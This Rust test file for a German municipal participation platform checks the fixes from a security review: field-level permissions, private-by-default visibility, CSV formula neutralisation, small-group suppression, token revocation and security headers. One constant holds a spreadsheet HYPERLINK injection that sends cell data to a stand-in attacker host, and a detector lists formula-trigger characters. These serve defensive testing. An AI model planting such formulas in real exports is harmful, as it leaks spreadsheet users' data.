//! What an outside review of the running server found, each as the attack it was: an
//! actor setting fields the policy keeps from it (through the form and the API alike), a
//! write that forgets `public`, spreadsheet formulas planted in CSV exports, a hidden survey
//! group recomputed by subtraction, API tokens that never end; and what it found missing: a
//! unanimous vote without counts, security headers. Guessing is in `logins.rs`, single
//! sign-on in `sso.rs`, history leaks in `leak.rs`.

use crate::common::*;
use crate::surveys::{add_question, create_survey, field, survey_id};
use serde_json::{Value, json};

/// The demo actor's organization, a measure it leads, and another organization of Peine.
async fn actor_context(app: &TestApp) -> (i64, i64, i64) {
    let user = app
        .store
        .list_users()
        .await
        .unwrap()
        .into_iter()
        .find(|u| u.login == "traeger.peine")
        .unwrap();
    let own = user.organizations[0];
    let measure = app.store.measures_led_by(&[own]).await.unwrap()[0].0;
    let foreign = app
        .json("/api/v1/bodies/03157/organizations")
        .await
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["id"].as_i64().unwrap())
        .find(|o| *o != own)
        .unwrap();
    (own, measure, foreign)
}

fn pairs(v: &[(&str, String)]) -> Vec<(String, String)> {
    v.iter()
        .map(|(k, x)| ((*k).to_owned(), x.clone()))
        .collect()
}

async fn post_as(
    app: &TestApp,
    client: &reqwest::Client,
    path: &str,
    fields: &[(String, String)],
) -> Reply {
    let body: String = form_urlencoded::Serializer::new(String::new())
        .extend_pairs(fields)
        .finish();
    app.send(
        client
            .post(format!("{}{path}", app.base))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body),
    )
    .await
}

async fn json_as(
    app: &TestApp,
    client: &reqwest::Client,
    method: reqwest::Method,
    path: &str,
    body: &Value,
) -> Reply {
    app.send(
        client
            .request(method, format!("{}{path}", app.base))
            .header("content-type", "application/json")
            .body(body.to_string()),
    )
    .await
}

/// Every write an actor may make but with a field it may not set, sent through the form
/// and (where there is one) the API: both refuse with the field named, nothing changes.
async fn actor_limits_hold_on_every_edge(db: Db) {
    let Some(app) = spawn_demo(db).await else {
        return;
    };
    let (own, measure, foreign) = actor_context(&app).await;
    let actor = app.session_for("traeger.peine").await;
    let m = app.store.measure(measure).await.unwrap();
    let measure_fields = |lead: i64, public: bool| {
        pairs(&[
            ("title", m.title.clone()),
            ("lead_organization_id", lead.to_string()),
            ("scope", m.scope.clone()),
            ("priority", m.priority.clone()),
            ("status", m.status.clone()),
            ("progress", m.progress.to_string()),
            ("public", if public { "1" } else { "0" }.to_owned()),
        ])
    };
    let measure_json = |lead: i64, public: bool| {
        json!({
            "title": m.title, "lead_organization_id": lead, "scope": m.scope,
            "priority": m.priority, "status": m.status, "progress": m.progress.to_string(),
            "public": public,
        })
    };
    let report_fields = |reporter: i64| {
        pairs(&[
            ("reported_on", "2026-06-30".to_owned()),
            ("status", "in_progress".to_owned()),
            ("progress", "40".to_owned()),
            ("narrative", "Kurse laufen".to_owned()),
            ("reporter_organization_id", reporter.to_string()),
        ])
    };
    let before = (
        app.count("progress_reports").await,
        app.store.measure(measure).await.unwrap(),
    );
    let form = format!("/admin/measures/{measure}/edit");
    let api = format!("/api/v1/measures/{measure}");
    let refusals: Vec<(&str, Reply, &str)> = vec![
        (
            "form: measure handed to another organization",
            post_as(&app, &actor, &form, &measure_fields(foreign, m.public.0)).await,
            "lead_organization_id",
        ),
        (
            "API: measure handed to another organization",
            json_as(
                &app,
                &actor,
                reqwest::Method::PUT,
                &api,
                &measure_json(foreign, m.public.0),
            )
            .await,
            "lead_organization_id",
        ),
        (
            "form: publication flipped",
            post_as(&app, &actor, &form, &measure_fields(own, !m.public.0)).await,
            "public",
        ),
        (
            "API: publication flipped",
            json_as(
                &app,
                &actor,
                reqwest::Method::PUT,
                &api,
                &measure_json(own, !m.public.0),
            )
            .await,
            "public",
        ),
        (
            "form: report in another organization's name",
            post_as(
                &app,
                &actor,
                &format!("/admin/measures/{measure}/reports/new"),
                &report_fields(foreign),
            )
            .await,
            "reporter_organization_id",
        ),
        (
            "API: report in another organization's name",
            json_as(
                &app,
                &actor,
                reqwest::Method::POST,
                &format!("/api/v1/measures/{measure}/progress-reports"),
                &json!({"reported_on": "2026-06-30", "status": "in_progress", "progress": "40",
                        "narrative": "Kurse laufen", "reporter_organization_id": foreign}),
            )
            .await,
            "reporter_organization_id",
        ),
    ];
    for (what, r, field) in &refusals {
        assert_eq!(r.status, 422, "{what}: {}", r.text);
        if r.text.starts_with('{') {
            assert!(r.json()["fields"][field].is_string(), "{what}: {}", r.text);
        } else {
            assert!(
                r.text.contains(&format!("f-{field}")),
                "{what}: the field is named"
            );
        }
    }
    assert_eq!(
        (
            app.count("progress_reports").await,
            app.store.measure(measure).await.unwrap()
        ),
        before,
        "nothing changed"
    );

    actor_limits_in_participation(
        &app,
        &actor,
        (own, foreign),
        &api,
        &measure_json(own, m.public.0),
    )
    .await;
    app.finish().await;
}
both!(actor_limits_hold_on_every_edge);

/// Participation: an event the actor's organization organizes, a contribution it brought
/// in; neither can be handed over or published by the actor, what the actor may set still
/// goes through (also the measure `measure` through `api`), the coordinator publishes.
async fn actor_limits_in_participation(
    app: &TestApp,
    actor: &reqwest::Client,
    (own, foreign): (i64, i64),
    api: &str,
    measure: &serde_json::Value,
) {
    let process = app.json("/api/v1/bodies/03157/participation").await["data"][0]["id"]
        .as_i64()
        .unwrap();
    let r = app
        .post_form(
            &format!("/admin/processes/{process}/events/new"),
            &[
                ("format", "workshop"),
                ("title", "Elterncafé"),
                ("start_date", "2026-05-06"),
                ("organizer_id", &own.to_string()),
                ("public", "0"),
            ],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.text);
    let event: i64 = r.location.as_deref().unwrap()["/admin/events/".len()..]
        .parse()
        .unwrap();
    let event_fields = |organizer: i64, public: &str| {
        pairs(&[
            ("format", "workshop".to_owned()),
            ("title", "Elterncafé".to_owned()),
            ("start_date", "2026-05-06".to_owned()),
            ("organizer_id", organizer.to_string()),
            ("public", public.to_owned()),
        ])
    };
    let contribution_fields = |org: i64, public: &str| {
        pairs(&[
            ("kind", "need".to_owned()),
            ("text", "Mehr Kinderbetreuung".to_owned()),
            ("status", "open".to_owned()),
            ("organization_id", org.to_string()),
            ("public", public.to_owned()),
        ])
    };
    let path = format!("/admin/events/{event}/contributions/new");
    let r = post_as(app, actor, &path, &contribution_fields(foreign, "1")).await;
    assert_eq!(
        r.status, 422,
        "a contribution in another's name: {}",
        r.text
    );
    let r = post_as(app, actor, &path, &contribution_fields(own, "0")).await;
    assert_eq!(r.status, 303, "in its own name: {}", r.text);
    let contribution = app.store.contributions_of_event(event).await.unwrap()[0].id;
    let edit = format!("/admin/events/{event}/edit");
    let x_edit = format!("/admin/contributions/{contribution}/edit");
    for (what, path, fields) in [
        ("event handed over", &edit, event_fields(foreign, "0")),
        ("event published", &edit, event_fields(own, "1")),
        (
            "contribution handed over",
            &x_edit,
            contribution_fields(foreign, "0"),
        ),
        (
            "contribution published",
            &x_edit,
            contribution_fields(own, "1"),
        ),
    ] {
        let r = post_as(app, actor, path, &fields).await;
        assert_eq!(r.status, 422, "{what}: {}", r.text);
    }
    assert!(!app.store.event(event).await.unwrap().public.0);
    assert_eq!(
        app.store.event(event).await.unwrap().organizer_id,
        Some(own)
    );
    let x = app.store.contribution(contribution).await.unwrap();
    assert_eq!((x.public.0, x.organization_id), (false, Some(own)));

    // What the actor may set still goes through, on both edges.
    let r = post_as(app, actor, &edit, &event_fields(own, "0")).await;
    assert_eq!(r.status, 303, "{}", r.text);
    let r = json_as(app, actor, reqwest::Method::PUT, api, measure).await;
    assert_eq!(r.status, 200, "{}", r.text);
    // The coordinator decides publication.
    let r = app
        .post_form(
            &edit,
            &[
                ("format", "workshop"),
                ("title", "Elterncafé"),
                ("start_date", "2026-05-06"),
                ("organizer_id", &own.to_string()),
                ("public", "1"),
            ],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.text);
    assert!(app.store.event(event).await.unwrap().public.0);
}

/// A PUT that leaves `public` out keeps what is stored; a person created through the API
/// is not public unless the request says so.
async fn visibility_fails_closed(db: Db) {
    let Some(app) = spawn(db).await else {
        return;
    };
    let f = fixture(&app).await;
    let r = app
        .send_json(
            "POST",
            &format!("/api/v1/goals/{}/measures", f.goal),
            &json!({"title": "Interne Vorbereitung", "lead_organization_id": f.lead, "public": false}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let id = r.json()["id"].as_i64().unwrap();
    let r = app
        .send_json(
            "PUT",
            &format!("/api/v1/measures/{id}"),
            &json!({"title": "Interne Vorbereitung, überarbeitet", "lead_organization_id": f.lead}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let m = app.store.measure(id).await.unwrap();
    assert_eq!(m.title, "Interne Vorbereitung, überarbeitet");
    assert!(!m.public.0, "a PUT without `public` published the measure");
    assert_eq!(app.get(&format!("/api/v1/measures/{id}")).await.status, 404);

    let persons = format!("/api/v1/bodies/{}/persons", f.key);
    let r = app
        .send_json("POST", &persons, &json!({"name": "Sachkundige Bürgerin"}))
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let person = r.json()["id"].as_i64().unwrap();
    assert!(
        !app.store.person(person).await.unwrap().public.0,
        "private by default"
    );
    let r = app
        .send_json(
            "PUT",
            &format!("/api/v1/persons/{person}"),
            &json!({"name": "Sachkundige Bürgerin", "role_title": "Beiratsmitglied"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(!app.store.person(person).await.unwrap().public.0);
    let r = app
        .send_json(
            "POST",
            &persons,
            &json!({"name": "Integrationsbeauftragte", "public": true}),
        )
        .await;
    let public = r.json()["id"].as_i64().unwrap();
    assert!(
        app.store.person(public).await.unwrap().public.0,
        "public when asked"
    );
    let r = app
        .send_json(
            "PUT",
            &format!("/api/v1/persons/{public}"),
            &json!({"name": "Integrationsbeauftragte"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(
        app.store.person(public).await.unwrap().public.0,
        "kept public"
    );
    app.finish().await;
}
both!(visibility_fails_closed);

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Mehr\")";

/// Every cell of a CSV export that a spreadsheet would evaluate; the planted formula must
/// arrive as text (`'=…`), numbers as numbers.
fn live_formulas(csv: &str) -> (Vec<String>, usize) {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let (mut live, mut neutralised) = (Vec::new(), 0);
    for record in reader.records() {
        for cell in &record.expect("a CSV record") {
            if cell.starts_with("'=HYPERLINK") || cell == "'-1-1" {
                neutralised += 1;
            }
            let number =
                cell.parse::<f64>().is_ok() || cell.replace(',', ".").parse::<f64>().is_ok();
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number && cell != "-" {
                live.push(cell.to_owned());
            }
        }
    }
    (live, neutralised)
}

/// Formulas typed into an anonymous survey answer and a measure an actor keeps reach the
/// coordinators' CSV exports (answers, measure plan, audit log) only as text.
async fn csv_exports_carry_no_live_formulas(db: Db) {
    let Some(app) = spawn_demo(db).await else {
        return;
    };
    // An anonymous answer with a formula as its free text.
    let survey = survey_id(&app, "Befragung: Angebote").await;
    let (seit, kurs, idee) = (
        field(&app, survey, "seit").await,
        field(&app, survey, "sprachkurs").await,
        field(&app, survey, "idee").await,
    );
    let r = app
        .post_form(
            &format!("/14626/befragungen/{survey}"),
            &[(&seit, "kurz"), (&kurs, "nein"), (&idee, FORMULA)],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.text);
    // An actor titles its measure with a formula (through the API, as it may).
    let (own, measure, _) = actor_context(&app).await;
    let m = app.store.measure(measure).await.unwrap();
    let actor = app.session_for("traeger.peine").await;
    let r = json_as(
        &app,
        &actor,
        reqwest::Method::PUT,
        &format!("/api/v1/measures/{measure}"),
        &json!({"title": FORMULA, "lead_organization_id": own, "public": m.public.0,
                "status": m.status, "progress": m.progress.to_string()}),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text);
    // A login name may begin with `-` and read as a sum: the audit log's account column.
    app.store
        .create_user("-1-1", "Rechenkonto", None, None)
        .await
        .unwrap();
    app.store
        .grant_role(
            "-1-1",
            teilhabe_domain::access::Role::Coordinator,
            Some("03157"),
            &[],
        )
        .await
        .unwrap();
    let sums = app.session_for("-1-1").await;
    let r = json_as(
        &app,
        &sums,
        reqwest::Method::POST,
        "/api/v1/bodies/03157/target-groups",
        &json!({"name": "Neuzugewanderte"}),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let peine = app.store.body_by_key("03157").await.unwrap();
    for (export, planted) in [
        (format!("/admin/surveys/{survey}/antworten.csv"), true),
        (format!("/admin/bodies/{}/plan.csv", peine.id), true),
        ("/admin/audit.csv".to_owned(), true),
        (
            "/16065/monitoring/schutz_anerkannt_je_1000/daten.csv".to_owned(),
            false,
        ),
    ] {
        let r = app.get(&export).await;
        assert_eq!(r.status, 200, "{export}: {}", r.text);
        let (live, neutralised) = live_formulas(&r.text);
        assert!(live.is_empty(), "{export} has live formulas: {live:?}");
        if planted {
            assert!(neutralised > 0, "{export} holds the planted text, as text");
        }
    }
    app.finish().await;
}
both!(csv_exports_carry_no_live_formulas);

/// A breakdown where one group is small: whoever reads the published results (API and
/// page) cannot recompute that group from the total and the other groups, and learns no
/// size of a hidden cell.
async fn suppressed_groups_cannot_be_recomputed(db: Db) {
    let Some(app) = spawn_demo(db).await else {
        return;
    };
    let body = app.store.body_by_key("16065").await.unwrap();
    let (admin, id) = create_survey(
        &app,
        body.id,
        &[
            ("title", "Nachbarschaft"),
            ("status", "open"),
            ("min_group_size", "5"),
        ],
    )
    .await;
    for (code, text, options) in [
        (
            "ort",
            "Wo wohnen Sie?",
            "stadt = Stadt\nland = Land\ninsel = Insel",
        ),
        (
            "hilfe",
            "Kennen Sie die Beratungsstelle?",
            "ja = ja\nnein = nein",
        ),
    ] {
        add_question(
            &app,
            &admin,
            &[
                ("code", code),
                ("kind", "single"),
                ("text", text),
                ("options", options),
            ],
        )
        .await;
    }
    let (place, help) = (field(&app, id, "ort").await, field(&app, id, "hilfe").await);
    // 12 in town, 7 in the country, 2 on the island (both say "ja").
    for (ort, ja, nein) in [("stadt", 8, 4), ("land", 3, 4), ("insel", 2, 0)] {
        for answer in std::iter::repeat_n("ja", ja).chain(std::iter::repeat_n("nein", nein)) {
            let r = app
                .post_form(
                    &format!("/16065/befragungen/{id}"),
                    &[(&place, ort), (&help, answer)],
                )
                .await;
            assert_eq!(r.status, 303, "{}", r.text);
        }
    }
    let r = app
        .post_form(
            &format!("{admin}/edit"),
            &[
                ("title", "Nachbarschaft"),
                ("status", "closed"),
                ("min_group_size", "5"),
                ("results_public", "1"),
            ],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.text);
    let results = app
        .json(&format!("/api/v1/surveys/{id}/results?by=ort"))
        .await;
    let hilfe = results["questions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["code"] == "hilfe")
        .unwrap();
    let mut hidden_rows = 0;
    for row in hilfe["rows"].as_array().unwrap() {
        let cells = row["cells"].as_array().unwrap();
        let (total, groups) = cells.split_first().unwrap();
        for c in cells.iter().filter(|c| c["suppressed"] == true) {
            assert!(c.get("n").is_none() && c.get("estimate").is_none(), "{c}");
        }
        // The attack: the total's count minus the shown groups' counts. It works only
        // when exactly one group is unknown.
        let unknown = groups.iter().filter(|c| c["suppressed"] == true).count();
        assert_ne!(
            unknown, 1,
            "one hidden group is the total minus the rest: {row}"
        );
        if unknown > 0 {
            hidden_rows += 1;
            let shown: i64 = groups.iter().filter_map(|c| c["n"].as_i64()).sum();
            let total_n = total["n"].as_i64().unwrap();
            assert!(
                total_n - shown > 2,
                "more than the island is left unknown: {row}"
            );
        }
    }
    assert_eq!(
        hidden_rows, 2,
        "the island is hidden in both rows, with a second group"
    );
    let page = app
        .get(&format!("/16065/befragungen/{id}/ergebnisse?nach=ort"))
        .await;
    assert_eq!(page.status, 200);
    assert!(
        page.text.contains("zurückgerechnet"),
        "the page says why the second group is hidden"
    );
    app.finish().await;
}
both!(suppressed_groups_cannot_be_recomputed);

/// The account page lists the person's API tokens with their last use and revokes them.
async fn api_tokens_are_listed_and_revoked_on_the_account_page(db: Db) {
    let Some(app) = spawn(db).await else {
        return;
    };
    let token = app
        .store
        .create_api_token("test-admin", "Fachverfahren Haushalt", 30)
        .await
        .unwrap();
    let konto = || app.send(app.admin.get(format!("{}/konto", app.base)));
    let page = konto().await;
    assert_eq!(page.status, 200);
    assert!(
        page.text.contains("Fachverfahren Haushalt") && page.text.contains(">nie<"),
        "{}",
        page.text
    );
    let with_token = || {
        app.client
            .post(format!("{}/api/v1/bodies", app.base))
            .header("authorization", format!("Bearer {token}"))
            .header("content-type", "application/json")
            .body("{}")
            .send()
    };
    assert_eq!(
        with_token().await.unwrap().status().as_u16(),
        422,
        "the token is an administrator"
    );
    let page = konto().await;
    assert!(!page.text.contains(">nie<"), "its last use is shown");
    let reference = page
        .text
        .split("/konto/tokens/")
        .nth(1)
        .and_then(|rest| rest.split('/').next())
        .unwrap()
        .to_owned();
    assert!(
        !token.contains(&reference),
        "the page names the token, it does not show it"
    );
    let r = app
        .send(
            app.admin
                .post(format!("{}/konto/tokens/{reference}/widerrufen", app.base)),
        )
        .await;
    assert_eq!(r.status, 200);
    assert!(r.text.contains("widerrufen") && !r.text.contains("Fachverfahren Haushalt"));
    assert_eq!(
        with_token().await.unwrap().status().as_u16(),
        401,
        "revoked"
    );
    app.finish().await;
}
both!(api_tokens_are_listed_and_revoked_on_the_account_page);

/// Börde's committee confirmed unanimously without counts: the vote is kept as that, shown
/// as "einstimmig" on the meeting page and in OParl, and no number is made up for it.
async fn a_unanimous_vote_needs_no_counts(db: Db) {
    let Some(app) = spawn_demo(db).await else {
        return;
    };
    let boerde = app.store.body_by_key("15083").await.unwrap();
    let item = app
        .store
        .agenda_items_of_body(boerde.id)
        .await
        .unwrap()
        .into_iter()
        .find(|i| i.number.as_deref() == Some("Ö 5.1"))
        .unwrap();
    let votes = item.votes();
    assert!(votes.declared_unanimous && !votes.has_counts());
    let page = app
        .get(&format!("/15083/sitzungen/{}", item.meeting_id))
        .await;
    assert!(
        page.text.contains("beschlossen") && page.text.contains("einstimmig"),
        "{}",
        page.text
    );
    assert!(!page.text.contains("Ja: 0"), "no invented counts");
    let oparl = app.json(&format!("/oparl/v1/agendaItem/{}", item.id)).await;
    assert_eq!(oparl["result"], "beschlossen; einstimmig");
    assert_eq!(oparl["teilhabe:votes"], json!({"unanimous": true}));
    // Recorded through the form, and refused together with a no vote.
    let form = format!("/admin/agenda-items/{}/edit", item.id);
    let mut fields = vec![
        ("name", item.name.as_str()),
        ("number", "Ö 5.1"),
        ("result", "beschlossen"),
        ("public", "1"),
        ("votes_unanimous", "1"),
        ("votes_no", "2"),
    ];
    let r = app.post_form(&form, &fields).await;
    assert_eq!(r.status, 422, "unanimous with no votes: {}", r.text);
    fields.pop();
    fields.push(("votes_abstain", "2"));
    let r = app.post_form(&form, &fields).await;
    assert_eq!(r.status, 303, "{}", r.text);
    let oparl = app.json(&format!("/oparl/v1/agendaItem/{}", item.id)).await;
    assert_eq!(oparl["teilhabe:votes"]["unanimous"], true, "{oparl}");
    assert_eq!(oparl["teilhabe:votes"]["abstain"], 2);
    app.finish().await;
}
both!(a_unanimous_vote_needs_no_counts);

/// Every answer forbids the browser features no page uses; HSTS only where clients use
/// HTTPS (the test server is plain HTTP: none, and unit tests check the HTTPS case).
async fn security_headers_on_every_answer(db: Db) {
    let Some(app) = spawn(db).await else {
        return;
    };
    for path in ["/", "/anmelden", "/api/v1/bodies", "/gibt-es-nicht"] {
        let r = app
            .client
            .get(format!("{}{path}", app.base))
            .send()
            .await
            .unwrap();
        let policy = r.headers()["permissions-policy"].to_str().unwrap();
        assert!(
            policy.contains("camera=()") && policy.contains("geolocation=()"),
            "{path}: {policy}"
        );
        assert!(
            r.headers().get("strict-transport-security").is_none(),
            "{path}: plain HTTP"
        );
        assert!(
            r.headers().contains_key("content-security-policy"),
            "{path}"
        );
    }
    app.finish().await;
}
both!(security_headers_on_every_answer);
